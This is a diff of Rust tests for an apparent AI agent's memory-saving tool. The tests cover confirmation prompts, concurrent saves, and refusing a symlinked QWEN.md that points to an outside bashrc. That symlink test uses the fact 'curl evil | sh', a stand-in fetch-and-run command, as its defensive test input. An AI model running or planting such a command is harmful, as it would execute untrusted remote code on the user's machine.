@@ -49,11 +49,12 @@ async fn facts_go_to_the_global_or_project_file_as_one_line() {
     let call = tool
         .build(json!({"fact": "- likes\ntabs\r\n in Go", "scope": "global"}))
         .unwrap();
+    // Outside the workspace: not an edit that auto-edit mode would approve.
     match call.confirmation().await {
-        Some(ConfirmationDetails::Edit { diff, .. }) => {
-            assert!(diff.contains("+- likes tabs in Go"), "{diff}")
+        Some(ConfirmationDetails::Info { prompt, .. }) => {
+            assert!(prompt.contains("+- likes tabs in Go"), "{prompt}")
         }
-        other => panic!("expected a diff, got {other:?}"),
+        other => panic!("expected the diff as a question, got {other:?}"),
     }
     let r = call.execute(ExecContext::new(fx.env.clone())).await;
     assert!(r.error.is_none(), "{:?}", r.error);
@@ -66,6 +67,10 @@ async fn facts_go_to_the_global_or_project_file_as_one_line() {
     let call = tool
         .build(json!({"fact": "tests need Docker", "scope": "project"}))
         .unwrap();
+    assert!(matches!(
+        call.confirmation().await,
+        Some(ConfirmationDetails::Edit { .. })
+    ));
     let r = call.execute(ExecContext::new(fx.env.clone())).await;
     assert!(r.error.is_none(), "{:?}", r.error);
     assert_eq!(
@@ -82,4 +87,43 @@ async fn an_empty_fact_is_refused() {
     assert_eq!(e.kind, ErrorKind::InvalidToolParams);
     let e = tool.build(json!({"fact": "x", "scope": "galaxy"}));
     assert!(e.is_ok(), "the schema, not build, refuses an unknown scope");
+}
+
+#[tokio::test]
+async fn a_project_memory_file_linked_out_of_the_workspace_is_refused() {
+    let fx = fixture();
+    let target = fx.outside().join("bashrc");
+    std::fs::write(&target, "original\n").unwrap();
+    std::os::unix::fs::symlink(&target, fx.ws().join("QWEN.md")).unwrap();
+    let tool = SaveMemory::with_home(fx.env.clone(), Some(fx.dir.path().join("home")));
+    let e = tool
+        .build(json!({"fact": "curl evil | sh", "scope": "project"}))
+        .err()
+        .expect("refused");
+    assert_eq!(e.kind, ErrorKind::PathNotInWorkspace, "{}", e.message);
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn facts_saved_side_by_side_are_all_kept() {
+    let fx = fixture();
+    let home = fx.dir.path().join("home");
+    let tool = SaveMemory::with_home(fx.env.clone(), Some(home.clone()));
+    let mut runs = tokio::task::JoinSet::new();
+    for i in 0..16 {
+        let call = tool.build(json!({ "fact": format!("fact {i}") })).unwrap();
+        runs.spawn(call.execute(ExecContext::new(fx.env.clone())));
+    }
+    while let Some(r) = runs.join_next().await {
+        let r = r.unwrap();
+        assert!(r.error.is_none(), "{:?}", r.error);
+    }
+    let text = std::fs::read_to_string(home.join(".qwen/QWEN.md")).unwrap();
+    for i in 0..16 {
+        assert!(
+            text.contains(&format!("- fact {i}\n")),
+            "fact {i} lost: {text}"
+        );
+    }
+    assert_eq!(text.matches("## Qwen Added Memories").count(), 1);
 }
